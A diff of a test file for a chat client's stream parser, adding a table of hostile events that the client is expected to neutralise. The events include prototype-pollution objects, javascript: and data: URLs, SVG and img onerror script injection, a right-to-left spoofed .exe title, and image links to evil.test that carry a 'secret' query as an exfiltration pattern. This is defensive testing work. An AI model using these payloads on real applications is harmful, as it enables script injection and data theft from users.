@@ -110,18 +110,43 @@ describe('an answer that fails', () => {
   })
 })
 
+/** Events by which a service, or what it read, could try something. As text, so that `__proto__` is a field. */
+const hostileEvents = {
+  'a prototype in metadata': '{"type":"message-metadata","messageMetadata":{"__proto__":{"polluted":true}}}',
+  'a constructor in metadata': '{"type":"start","messageMetadata":{"constructor":{"prototype":{"polluted":true}}}}',
+  'a constructor in data': '{"type":"data-x","data":{"constructor":{"prototype":{"polluted":true}}}}',
+  'an element as data':
+    '{"type":"data-x","data":{"type":"script","props":{"src":"//evil.test"},"constructor":null,"__k":null}}',
+  'an element as a title': '{"type":"source-url","sourceId":"s","url":"/a","title":{"type":"script","props":{}}}',
+  'a title that turns text around': '{"type":"source-url","sourceId":"s","url":"/a","title":"docs.test\u202egpj.exe"}',
+  'a source that is a script':
+    '{"type":"source-url","sourceId":"s","url":"javascript:alert(document.domain)","title":"Docs"}',
+  'a source that hides a script':
+    '{"type":"source-url","sourceId":"s","url":"\\tjava\\nscript:alert(1)","title":"Docs"}',
+  'a source that is data': '{"type":"source-url","sourceId":"s","url":"data:text/html,<script>alert(1)</script>"}',
+  'a source on another host':
+    '{"type":"source-url","sourceId":"s","url":"https://evil.test/pixel?q=secret","title":"Docs"}',
+  'a file that is a script': '{"type":"file","url":"javascript:alert(1)","mediaType":"image/png"}',
+  'a file on another host': '{"type":"file","url":"https://evil.test/pixel.png?q=secret","mediaType":"image/png"}',
+  'a drawing with a script':
+    '{"type":"file","url":"data:image/svg+xml,<svg onload=\\"alert(1)\\"/>","mediaType":"image/svg+xml"}',
+  'an image in reasoning': '{"type":"reasoning-delta","id":"r","delta":"![x](https://evil.test/pixel?q=secret)"}',
+  'a tool with the name of an element':
+    '{"type":"tool-input-start","toolCallId":"c","toolName":"<img src=x onerror=alert(1)>"}',
+  'an id that is an element': '{"type":"start","messageId":"\\"><script>alert(1)</script>"}',
+  'an error of 1 MB': `{"type":"error","errorText":"${'x'.repeat(1_000_000)}"}`
+}
+
 it.for([
-  { class: 'own prototype', line: '{"type":"message-metadata","messageMetadata":{"__proto__":{"polluted":true}}}' },
-  { class: 'own constructor', line: '{"type":"data-x","data":{"constructor":{"prototype":{"polluted":true}}}}' },
-  { class: 'own title', line: '{"type":"source-url","sourceId":"s","url":"/a","title":{"type":"script"}}' },
-  ...readHostileEvents()
-])('takes a hostile event for what it is: $class', async hostile => {
-  const chat = await answeredLines([hostile.line, JSON.stringify(text), JSON.stringify(finish)])
-  const failed = hostile.line.startsWith('{"type":"error"')
+  ...Object.entries(hostileEvents),
+  ...readHostileEvents().map(({ class: name, line }) => [name, line] as [string, string])
+])('takes a hostile event for what it is: %s', async ([, line]) => {
+  const chat = await answeredLines([line, JSON.stringify(text), JSON.stringify(finish)])
+  const failed = line.startsWith('{"type":"error"')
   expect(chat.status).toBe(failed ? 'error' : 'ready')
   expect(textOf(chat.messages[1])).toBe(failed ? '' : 'Text')
   const kept = JSON.stringify(chat.messages)
-  expect(kept).not.toMatch(/"__proto__"|"constructor"|javascript:/)
+  expect(kept).not.toMatch(/"__proto__"|"constructor"|javascript:|java\\nscript|data:text/)
   for (const part of chat.messages[1]?.parts ?? []) {
     if (part.type === 'source-url') expect(typeof part.title).toMatch(/string|undefined/)
   }
